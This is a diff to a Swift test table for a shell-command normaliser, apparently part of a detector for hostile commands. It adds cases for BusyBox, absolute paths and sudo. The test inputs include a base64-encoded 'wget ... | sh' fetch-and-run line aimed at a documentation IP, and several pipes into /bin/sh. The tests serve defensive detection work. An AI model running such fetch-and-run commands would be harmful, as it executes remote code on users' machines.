@@ -35,13 +35,22 @@ import Testing
         // BusyBox
         ("busybox wget x", " wget x "), ("/bin/busybox wget x", " wget x "), ("busybox", " busybox "),
         ("a; busybox; b", " a ; busybox ; b "), ("mybusybox x", " mybusybox x "), ("busybox busybox id", " id "),
-        ("busybox | x", " busybox | x "),
+        ("busybox | x", " busybox | x "), ("busybox --list", " busybox --list "),
+        // Programs by their place, and what runs others
+        ("/bin/wget x", " wget x "), ("a;/usr/bin/wget x", " a ; wget x "), ("/bin/./uname -a", " uname -a "),
+        ("/usr//bin/././id", " id "), ("/usr/local/sbin/x|/bin/sh", " x | sh "), ("/tmp/bin/x", " /tmp/bin/x "),
+        ("/usr/lib/x y", " /usr/lib/x y "), ("/bin/", " /bin/ "), ("cat /bin/ls", " cat /bin/ls "),
+        ("x > /bin/ls", " x > /bin/ls "), ("x >& /bin/ls", " x >& /bin/ls "), ("x 2>&1|/bin/tee", " x 2 >& 1 | tee "),
+        ("x &>/bin/ls", " x &> /bin/ls "), ("x&/bin/ls", " x & ls "), ("sh -c '/bin/ls /bin'", " sh -c ls /bin "),
+        ("sudo wget x", " wget x "), ("nohup /usr/bin/wget x &", " wget x & "), ("sudo env A=1 /bin/ls", " A=1 ls "),
+        ("sudo -n /bin/sh", " sudo -n /bin/sh "), ("echo sudo x", " echo sudo x "), ("sudo", " sudo "),
+        ("if /bin/true; then exec /bin/sh; fi", " if true ; then sh ; fi "), ("A=/bin/ls", " A=/bin/ls "),
         // Base64: "wget -qO- http://198.51.100.7/a.sh | sh"
         (
             "echo d2dldCAtcU8tIGh0dHA6Ly8xOTguNTEuMTAwLjcvYS5zaCB8IHNo|base64 -d|sh",
             " echo wget -qO- http://198.51.100.7/a.sh | sh | base64 -d | sh "
         ),
-        ("echo dXNlcg==", " echo dXNlcg== "), ("/usr/local/bin/something", " /usr/local/bin/something "),
+        ("echo dXNlcg==", " echo dXNlcg== "), ("ls /usr/local/bin/something", " ls /usr/local/bin/something "),
         ("AAAAB3NzaC1yc2EAAAADAQABAAABgQ", " AAAAB3NzaC1yc2EAAAADAQABAAABgQ "),
         // Not undone twice: the base64 of the base64 of a command
         ("ZDJkbGRDQXRjVTh0SUdoMGRIQTZMeTg9Cg==", " d2dldCAtcU8tIGh0dHA6Ly8= ; "),
